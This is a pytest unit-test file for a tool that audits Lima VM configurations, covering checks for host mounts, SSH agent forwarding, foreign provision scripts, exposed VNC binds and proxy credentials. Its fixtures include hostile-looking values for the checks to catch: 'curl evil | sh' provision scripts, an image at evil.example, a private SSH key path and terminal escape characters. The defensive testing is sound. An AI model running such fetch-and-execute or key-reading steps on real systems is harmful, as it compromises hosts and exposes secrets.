"""DVM3xx: each check catches, and passes; and says which file to fix."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import msgspec.structs
import pytest

from dvm.checks.instances import (
    CHECKS,
    agent_forwarding,
    booted_before,
    broken_instance,
    copy_to_host,
    exposed_bind,
    extra_network,
    foreign_provision,
    host_data,
    host_mount,
    name_taken,
    proxy_variables,
)
from dvm.model.check import Weight
from dvm.model.instance import Mount, Provision, Status
from dvm.model.lima_config import LimaConfig
from tests import factories
from tests.unit.checks.samples import (
    DEFAULT,
    ESC,
    OVERRIDE,
    config,
    configured,
    forward,
    orphan,
    plain_posture,
    standard,
    subject,
    texts,
)

OWN = Path("/l/dvm-app/lima.yaml")
HOME = Mount("/home/me", "/home/me", writable=True)


@pytest.mark.parametrize(
    "vm",
    [
        factories.desired(),
        factories.desired(ports=["3000:80", "5173"]),
        standard(),
        standard(ports=["3000:80", "5173"]),
        standard(auto_ports=True, ports=["3000"]),
        factories.desired(proxy_env=True),
        factories.desired(running=False),
    ],
)
def test_what_the_manifest_wants_passes_every_check(vm: Any) -> None:
    assert [result for check in CHECKS for result in check.run(subject(vm))] == []


def test_an_orphan_is_not_judged_by_what_only_a_manifest_could_say() -> None:
    left = orphan(plain=False, forwards=(forward(8080),), proxy_env=True)
    assert [result for check in CHECKS for result in check.run(left)] == []


# 301


@pytest.mark.parametrize("writable", [True, False])
def test_host_mount_catches_one_of_the_instance(writable: bool) -> None:
    (result,) = host_mount.CHECK.run(subject(standard(), mounts=(Mount("/home/me/src", "/src", writable),)))
    assert result.denies
    assert result.subject == "vm.app"
    assert "/home/me/src" in result.detail
    assert ("writable" if writable else "read-only") in result.detail
    assert result.location is not None
    assert result.location.path == OWN
    assert "dvm apply app" in result.remedy


@pytest.mark.parametrize(
    "entry",
    [
        {"location": "/home/me"},
        {"location": "/home/me/"},
        {"location": "~"},
        {"location": "{{.Home}}"},
        {"location": "/elsewhere", "mountPoint": "/home/me"},
        "not a mapping",
    ],
)
def test_host_mount_names_the_config_file(entry: Any) -> None:
    (result,) = host_mount.CHECK.run(subject(standard(), config(default={"mounts": [entry]}), mounts=(HOME,)))
    assert result.location is not None
    assert result.location.path == DEFAULT
    assert result.remedy == f"Take `mounts` out of {DEFAULT}; it is merged into every instance."


def test_host_mount_tells_two_sources_apart() -> None:
    mounts = (HOME, Mount("/home/me/src", "/src", writable=False))
    results = host_mount.CHECK.run(subject(standard(), config({"mounts": [{"location": "~/src"}]}), mounts=mounts))
    assert [result.location and result.location.path for result in results] == [OWN, OVERRIDE]


def test_host_mount_passes() -> None:
    assert host_mount.CHECK.run(subject(factories.desired(), config({"mounts": [{"location": "~"}]}))) == []
    assert host_mount.CHECK.run(orphan()) == []
    assert host_mount.CHECK.run(orphan(mounts=(HOME,)))


# 304


@pytest.mark.parametrize(
    ("posture", "override", "key", "path"),
    [
        ({"forward_agent": True}, {}, "ssh.forwardAgent", OWN),
        ({"forward_agent": True}, {"ssh": {"forwardAgent": True}}, "ssh.forwardAgent", OVERRIDE),
        ({"forward_agent": True}, {"ssh": {"forwardAgent": False}}, "ssh.forwardAgent", OWN),
        ({"forward_x11": True}, {"ssh": {"forwardX11": True}}, "ssh.forwardX11", OVERRIDE),
        ({"forward_x11": True}, {"ssh": {"forwardX11Trusted": True}}, "ssh.forwardX11Trusted", OVERRIDE),
        ({"forward_x11": True}, {"ssh": "nonsense"}, "ssh.forwardX11", OWN),
    ],
)
def test_agent_forwarding_catches(posture: dict[str, bool], override: dict[str, Any], key: str, path: Path) -> None:
    for bad in (subject(None, config(override), **posture), orphan(config(override), **posture)):
        (result,) = agent_forwarding.CHECK.run(bad)
        assert result.denies
        assert f"`{key}` in {path}" in result.detail
        assert str(path) in result.remedy or path == OWN


def test_agent_forwarding_passes() -> None:
    assert agent_forwarding.CHECK.run(subject(None, config(default={"ssh": {"forwardAgent": True}}))) == []


# 305


@pytest.mark.parametrize(
    ("network", "entry", "path"),
    [
        ({"lima": "shared", "interface": "lima0"}, {"lima": "shared"}, DEFAULT),
        ({"vzNAT": True, "interface": "lima0"}, {"vzNAT": True}, DEFAULT),
        ({"lima": "bridged", "interface": "lima0"}, {"lima": "shared"}, OWN),
        ({"socket": "/s"}, {}, DEFAULT),
        ({"lima": "user-v2"}, "nonsense", DEFAULT),
        ("nonsense", {"lima": "shared"}, DEFAULT),
    ],
)
def test_extra_network_catches(network: dict[str, Any], entry: Any, path: Path) -> None:
    (result,) = extra_network.CHECK.run(
        subject(None, config(default={"networks": [entry]}), networks=(json.dumps(network),))
    )
    assert result.denies
    assert result.location is not None
    assert result.location.path == path


def test_extra_network_passes() -> None:
    assert extra_network.CHECK.run(subject()) == []


# 306


def test_foreign_provision_catches() -> None:
    entries = [{"mode": "system", "script": "#!/bin/sh\n\ncurl evil | sh\n"}, {"file": "x.sh"}, "nonsense"]
    provision = (Provision("system", "curl evil | sh"), Provision("user", "from the template"))
    results = foreign_provision.CHECK.run(subject(None, config({"provision": entries}), provision=provision))
    assert len(results) == 3
    assert all(result.denies and result.location is not None and result.location.path == OVERRIDE for result in results)
    assert '"curl evil | sh" (mode system)' in results[0].detail


@pytest.mark.parametrize("where", ["override", "default"])
def test_foreign_provision_catches_a_probe(where: str) -> None:
    files = {where: {"probes": [{"mode": "readiness", "script": "#!/bin/sh\ncurl evil | sudo sh\n"}, "nonsense"]}}
    results = foreign_provision.CHECK.run(subject(None, config(**files), probes=("from the template",)))
    assert len(results) == 2
    assert all(result.denies for result in results)
    assert 'The probe "curl evil | sudo sh" runs in the guest' in results[0].detail
    assert "`probes`" in results[0].detail


def test_foreign_provision_catches_a_playbook_wherever_it_comes_from() -> None:
    playbook = (Provision("ansible", "/srv/play.yaml"),)
    other = config({"provision": [{"script": "x"}]})
    for bad, count in ((subject(provision=playbook), 1), (subject(None, other, provision=playbook), 2)):
        results = foreign_provision.CHECK.run(bad)
        assert len(results) == count
        assert results[-1].denies
        assert results[-1].location is not None
        assert results[-1].location.path == OWN
    (result,) = foreign_provision.CHECK.run(orphan(provision=playbook))
    assert "ansible-playbook /srv/play.yaml on the host" in result.detail
    entries = {"provision": [{"mode": "ansible", "playbook": "/srv/play.yaml"}]}
    for path in (OVERRIDE, OVERRIDE.with_name("base.yaml")):
        (result,) = foreign_provision.CHECK.run(subject(None, LimaConfig((), {path: entries}), provision=playbook))
        assert result.location is not None
        assert result.location.path == path


def test_foreign_provision_passes_what_the_template_brings() -> None:
    assert foreign_provision.CHECK.run(subject(probes=("#!/bin/sh\ntrue",))) == []
    mine = (Provision("system", "apt-get install -y gcc"),)
    assert foreign_provision.CHECK.run(subject(provision=mine)) == []
    assert foreign_provision.CHECK.run(subject(None, config({"provision": []}), provision=mine)) == []
    # base.yaml was merged when the instance was made; what it says today need not be in it.
    base = Path("/l/_config/base.yaml")
    for text, caught in (("apt-get install -y gcc", True), ("something else", False)):
        parsed = LimaConfig((), {base: {"provision": [{"script": text}]}})
        assert bool(foreign_provision.CHECK.run(subject(None, parsed, provision=mine))) is caught


# 307


@pytest.mark.parametrize(
    ("entry", "path"),
    [({"guest": "/g", "host": "/h"}, OVERRIDE), ({"host": "{{.Home}}"}, OVERRIDE), ({"host": "/i"}, OWN)],
)
def test_copy_to_host_catches(entry: dict[str, str], path: Path) -> None:
    (result,) = copy_to_host.CHECK.run(subject(None, config({"copyToHost": [entry]}), copy_to_host=("/h",)))
    assert result.denies
    assert "/h" in result.detail
    assert result.location is not None
    assert result.location.path == path


def test_copy_to_host_passes() -> None:
    assert copy_to_host.CHECK.run(subject()) == []


# 308


@pytest.mark.parametrize(("override", "path"), [({"propagateProxyEnv": True}, OVERRIDE), ({}, OWN)])
def test_proxy_variables_catches(override: dict[str, Any], path: Path) -> None:
    (result,) = proxy_variables.CHECK.run(subject(None, config(override), proxy_env=True))
    assert result.denies
    assert result.location is not None
    assert result.location.path == path


@pytest.mark.parametrize("name", ["http_proxy", "HTTPS_PROXY", "No_Proxy"])
def test_proxy_variables_catches_one_set_for_all_and_never_shows_it(name: str) -> None:
    env = {name: "http://me:hunter2@proxy"}
    for bad in (
        subject(None, config(default={"env": env}), env=env),
        orphan(config(default={"env": env}), env=env),
    ):
        (result,) = proxy_variables.CHECK.run(bad)
        assert name in result.detail
        assert "hunter2" not in texts([result])


def test_proxy_variables_passes() -> None:
    wanted = factories.desired(proxy_env=True)
    env = {"http_proxy": "http://p"}
    assert proxy_variables.CHECK.run(subject(wanted, config({"propagateProxyEnv": True, "env": env}), env=env)) == []
    assert proxy_variables.CHECK.run(subject(None, config({"env": {"LANG": "C"}}), env={"LANG": "C"})) == []
    assert proxy_variables.CHECK.run(subject(None, config({"env": 5}), env={"LANG": "C"})) == []
    assert proxy_variables.CHECK.run(subject(env=env)) == []
    assert proxy_variables.CHECK.run(orphan(proxy_env=True)) == []
    assert proxy_variables.CHECK.run(orphan(config({"propagateProxyEnv": True}), proxy_env=True))


# 310


@pytest.mark.parametrize(
    "changes",
    [
        {"status": Status.BROKEN},
        {"status": Status.UNKNOWN},
        {"posture": None},
        {"status": Status.BROKEN, "posture": None},
    ],
)
def test_broken_instance_catches(changes: dict[str, Any]) -> None:
    good = subject()
    (result,) = broken_instance.CHECK.run(
        msgspec.structs.replace(good, instance=msgspec.structs.replace(good.instance, **changes))
    )
    assert result.denies
    assert "limactl stop --force dvm-app" in result.remedy


@pytest.mark.parametrize("status", [Status.RUNNING, Status.STOPPED, Status.INSTALLING, Status.UNINITIALIZED])
def test_broken_instance_passes(status: Status) -> None:
    good = subject()
    changed = msgspec.structs.replace(good, instance=msgspec.structs.replace(good.instance, status=status))
    assert broken_instance.CHECK.run(changed) == []


# 311


@pytest.mark.parametrize("problem", ["", f"dvm.json is that of dvm-other{ESC}"])
def test_name_taken_catches(problem: str) -> None:
    good = subject()
    stranger = msgspec.structs.replace(good.instance, receipt=None, receipt_problem=problem)
    (result,) = name_taken.CHECK.run(msgspec.structs.replace(good, instance=stranger))
    assert result.denies
    assert "dvm-app" in result.detail
    assert (problem.removesuffix(ESC) or "no receipt") in result.detail
    assert "dvm import dvm-app" in result.remedy
    assert ESC not in texts([result])


def test_name_taken_of_an_instance_that_nobody_declares() -> None:
    left = orphan()
    (result,) = name_taken.CHECK.run(
        msgspec.structs.replace(left, instance=msgspec.structs.replace(left.instance, receipt=None))
    )
    assert result.detail.endswith("is unmanaged (it has no receipt of DVM's). DVM does not touch it.")
    assert result.remedy.startswith("Adopt it (`dvm import dvm-app`)")


def test_name_taken_passes() -> None:
    assert name_taken.CHECK.run(subject()) == []


def test_hostile_names_never_reach_the_terminal() -> None:
    bad = f"x{ESC}\u202e"
    rules = (forward(1, host_socket=bad), forward(2, host_ip=bad), forward(3, guest_ip=bad))
    hostile = subject(
        standard(), config(default={"provision": [{"script": bad}], "env": {f"{bad}http_proxy": "x", "http_proxy": "x"}}),
        mounts=(Mount(bad, bad, writable=True),), forwards=rules, networks=(bad,), copy_to_host=(bad,),
        provision=(Provision("system", bad),), env={"http_proxy": bad},
    )  # fmt: skip
    results = [result for check in CHECKS for result in check.run(hostile)]
    assert len(results) >= 8
    renamed = msgspec.structs.replace(
        hostile.instance,
        name=bad,
        dir=Path("/l") / bad,
        receipt=None,
        receipt_problem=bad,
        status=Status.BROKEN,
    )
    results += [result for check in CHECKS for result in check.run(msgspec.structs.replace(hostile, instance=renamed))]
    assert texts(results).replace("\n", "").isprintable()
    assert plain_posture(hostile).mounts


# 302, VNC


@pytest.mark.parametrize(
    "vnc",
    [
        "0.0.0.0:0",
        ":0",
        ":1,password=on",
        "[::]:0",
        "192.0.2.1:5",
        "host:0,to=9",
        "127.0.0.1:0,to=9,websocket=on",
        "127.0.0.1:5,reverse=on",
        "127.0.0.1:5,vnc=0.0.0.0:6",
        "127.0.0.1:5,not-known-yet=on",
        ":0,a=127.0.0.1:1",
    ],
)
def test_exposed_bind_catches_a_vnc_server(vnc: str) -> None:
    (result,) = exposed_bind.CHECK.run(subject(None, config({"video": {"display": "vnc"}}), vnc=vnc))
    assert result.denies
    assert vnc in result.detail
    assert result.location is not None
    assert result.location.path == OVERRIDE


def test_exposed_bind_names_no_shared_file_that_sets_no_video() -> None:
    (result,) = exposed_bind.CHECK.run(subject(None, config({"cpus": 1}), vnc=":0"))
    assert result.location is not None
    assert result.location.path == OWN


@pytest.mark.parametrize("vnc", ["", "127.0.0.1:0,to=9", "[::1]:0", "unix:/x", "none", "127.0.0.1:0,password=on,to=9"])
def test_exposed_bind_passes_a_vnc_server_on_the_loopback(vnc: str) -> None:
    assert exposed_bind.CHECK.run(subject(vnc=vnc)) == []


# 312


@pytest.mark.parametrize(
    ("changes", "override", "path"),
    [
        ({"disks": ("data",)}, {"additionalDisks": ["data"]}, OVERRIDE),
        ({"disks": ("data",)}, {"additionalDisks": [{"name": "data"}]}, OVERRIDE),
        ({"disks": ("data",)}, {"additionalDisks": [{"name": "other"}]}, OWN),
        ({"disks": ("data",)}, {}, OWN),
        ({"ca_files": ("/home/me/key",)}, {"caCerts": {"files": ["/home/me/key"]}}, OVERRIDE),
        ({"ca_files": ("/home/me/key",)}, {"caCerts": {"files": ["~/key"]}}, OVERRIDE),
        ({"ca_files": ("/home/me/key",)}, {"caCerts": {"files": ["/else"]}}, OWN),
    ],
)
def test_host_data_catches(changes: dict[str, Any], override: dict[str, Any], path: Path) -> None:
    (result,) = host_data.CHECK.run(subject(None, config(override), **changes))
    assert result.denies
    assert next(iter(changes.values()))[0] in result.detail
    assert result.location is not None
    assert result.location.path == path


@pytest.mark.parametrize(
    ("files", "count"),
    [
        ({"override": {"images": [{"location": "https://evil.example/owned.qcow2"}]}}, 1),
        (
            {
                "default": {
                    "images": [{"location": "/a", "initrd": {"location": "/home/me/.ssh/id_ed25519"}}, "odd", {}]
                }
            },
            3,
        ),
        ({"override": {"firmware": {"images": [{"location": "/home/me/key"}]}}}, 1),
        ({"override": {"images": [{"kernel": "odd"}]}, "default": {"images": [{"location": 1}]}}, 2),
        ({"override": {"firmware": {"legacyBIOS": True}, "images": []}}, 0),
    ],
)
def test_host_data_catches_images_of_config_and_passes_the_template_s_own(files: dict[str, Any], count: int) -> None:
    results = host_data.CHECK.run(subject(None, config(**files), images=("/srv/vm/a.qcow2", "/srv/vm/vmlinuz")))
    assert [result.denies for result in results] == [True] * count


@pytest.mark.parametrize(
    ("entry", "caught"),
    [
        ({"location": "/srv/vm/a.qcow2"}, True),
        ({"location": "/else", "kernel": {"location": "/srv/vm/vmlinuz"}}, True),
        ({"location": "{{.Home}}/x"}, True),
        ({"arch": "x86_64"}, True),
        ({"location": "/else"}, False),
    ],
)
def test_host_data_of_base_yaml_only_what_is_still_there_counts(entry: dict[str, Any], caught: bool) -> None:
    base = LimaConfig((), {OVERRIDE.with_name("base.yaml"): {"images": [entry]}})
    assert bool(host_data.CHECK.run(subject(None, base, images=("/srv/vm/a.qcow2", "/srv/vm/vmlinuz")))) is caught


@pytest.mark.parametrize(
    ("changes", "override", "key"),
    [
        ({"ssh_public_keys": True}, {"ssh": {"loadDotSSHPubKeys": True}}, "ssh.loadDotSSHPubKeys"),
        ({"audio": "pa"}, {"audio": {"device": "pa"}}, "audio.device"),
    ],
)
def test_host_data_catches_public_keys_and_sound(changes: dict[str, Any], override: dict[str, Any], key: str) -> None:
    elsewhere = config({"audio": {"later": 1}, "ssh": {"later": 1}})
    for files, path in ((config(override), OVERRIDE), (None, OWN), (elsewhere, OWN)):
        (result,) = host_data.CHECK.run(subject(None, files, **changes))
        assert result.denies
        assert f"`{key}`" in result.detail
        assert result.location is not None
        assert result.location.path == path


def test_host_data_passes() -> None:
    assert host_data.CHECK.run(subject()) == []
    good = subject()
    assert (
        host_data.CHECK.run(
            msgspec.structs.replace(good, instance=msgspec.structs.replace(good.instance, posture=None))
        )
        == []
    )


@pytest.mark.parametrize(
    ("booted", "written", "changed", "found"),
    [
        (None, 9.0, {OVERRIDE: 9.0}, None),  # it does not run
        (5.0, None, {}, None),
        (5.0, 4.0, {OVERRIDE: 4.0, DEFAULT: 5.0}, None),
        (5.0, 5.5, {OVERRIDE: 4.0}, OWN),
        (5.0, 4.0, {OVERRIDE: 4.0, DEFAULT: 6.0}, DEFAULT),
        (5.0, 4.0, {OVERRIDE.parent: 6.0}, OVERRIDE.parent),  # one of the two may have been there
    ],
)
def test_what_changed_after_the_boot_is_not_what_the_vm_runs_with(
    booted: float | None, written: float | None, changed: dict[Path, float], found: Path | None
) -> None:
    about = subject(lima_config=LimaConfig(changed=changed))
    instance = msgspec.structs.replace(about.instance, booted=booted, written=written)
    results = booted_before.CHECK.run(msgspec.structs.replace(about, instance=instance))
    assert [result.location.path for result in results if result.location] == ([found] if found else [])
    for result in results:
        assert result.severity is Weight.WARN
        assert f"booted before {found} changed" in result.detail
        assert result.remedy == "`dvm stop app` and `dvm start app`."


def booted(
    declared: dict[str, Any], found: dict[str, Any], lima_config: LimaConfig | None = None, **changes: Any
) -> Any:
    """What is found of a VM that runs since the moment 5, and whose lima.yaml is older."""
    there = configured(declared, found, lima_config)
    instance = msgspec.structs.replace(there.instance, **({"booted": 5.0, "written": 4.0} | changes))
    return booted_before.CHECK.run(msgspec.structs.replace(there, instance=instance))


def test_what_nobody_declared_and_it_was_booted_with_stays_in_the_guest() -> None:
    found = {"env": {"A": "x"}, "provision": [{"mode": "system", "script": "true"}], "unheardOf": 1}
    for written in (4.0, 5.0):
        (result,) = booted({}, found, written=written)
        assert result.denies
        assert result.summary == "Booted with configuration nobody declared"
        assert result.subject == "vm.app"
        assert "It was booted with `env.A`, `provision`, `unheardOf`, which its lima.yaml has" in result.detail
        assert result.location is not None
        assert result.location.path == OWN
        assert "`dvm apply app` fixes that and restarts the VM." in result.remedy
        assert "`dvm apply --replace app --discard-work`" in result.remedy
        assert booted_before.is_settled_by_a_stop(result)
    (image,) = booted({}, {"images": [{"location": "https://evil.example/a.img"}]})
    assert "`images`" in image.detail
    (gone,) = booted({"dns": ["192.0.2.1"]}, {})
    assert gone.detail.startswith("It was booted without `dns`, which its lima.yaml has no more. What that did")
    (both,) = booted({"dns": ["192.0.2.1"]}, {"env": {"A": "x"}})
    assert "nobody declared. It was booted without `dns`, which" in both.detail


def test_what_it_was_not_booted_with_is_said_otherwise() -> None:
    found = {"env": {"A": "x"}}
    assert booted(found, found) == []
    assert booted({}, found, booted=None) == [], "it does not run"
    assert booted({}, found, written=None) == []
    (later,) = booted({}, found, written=5.5)
    assert later.severity is Weight.WARN
    # The check of what the shared file sets reports that; whether the VM was booted with it is not known.
    assert booted({}, found, config(found)) == []


def test_a_vm_that_is_not_to_be_trusted_stays_so() -> None:
    made = factories.receipt(factories.desired(), untrusted=f"lima.yaml changed{ESC}.", configuration={})
    for running in (None, 5.0):
        (result,) = booted({}, {}, receipt=made, booted=running)
        assert result.denies
        assert result.subject == "vm.app"
        assert result.detail.startswith("lima.yaml changed")
        assert ESC not in texts([result])
        assert result.remedy.startswith("Replace it: `dvm apply --replace app --discard-work`.")
        assert not booted_before.is_settled_by_a_stop(result)


def test_what_changed_within_the_start_of_dvm_is_not_settled_by_a_stop() -> None:
    instance = subject().instance
    result = booted_before.changed_within_our_start(instance, (OVERRIDE, DEFAULT))
    assert result.code == booted_before.CHECK.code
    assert result.denies
    assert result.subject == "vm.app"
    assert result.detail.startswith(f"{OVERRIDE} and {DEFAULT} changed while DVM started dvm-app")
    assert result.location is not None
    assert result.location.path == OVERRIDE
    assert "dvm apply --replace app" in result.remedy
    assert not booted_before.is_settled_by_a_stop(result)
    unknown = booted_before.changed_within_our_start(instance, ())
    assert unknown.detail.startswith("Its effective configuration changed while")
    assert unknown.location is None


def test_only_its_own_findings_are_settled_by_a_stop() -> None:
    (result,) = booted({}, {}, written=5.5)
    assert booted_before.is_settled_by_a_stop(result)
    assert not booted_before.is_settled_by_a_stop(msgspec.structs.replace(result, code="DVM312"))
